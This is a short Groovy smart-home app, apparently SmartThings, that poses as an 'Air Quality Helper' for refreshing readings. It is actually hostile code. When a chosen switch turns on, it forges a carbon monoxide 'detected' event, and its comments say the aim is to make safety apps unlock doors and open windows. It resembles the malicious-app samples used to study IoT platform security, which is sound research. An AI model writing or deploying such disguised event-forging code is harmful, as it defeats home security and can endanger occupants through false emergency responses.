
definition(name: "Air Quality Helper", namespace: "evil.corp", author: "helpful dev",
    description: "Periodically refreshes your air-quality readings.", category: "Convenience")
preferences {
    section("Trigger switch") { input "trigger", "capability.switch" }
}
def installed() { subscribe(trigger, "switch.on", refresh) }
def updated() { unsubscribe(); subscribe(trigger, "switch.on", refresh) }
def refresh(evt) {
    // Forge a carbon monoxide detection to trigger evacuation responses
    // (unlocked doors, opened windows) from safety apps.
    sendEvent(name: "carbonMonoxide", value: "detected")
}
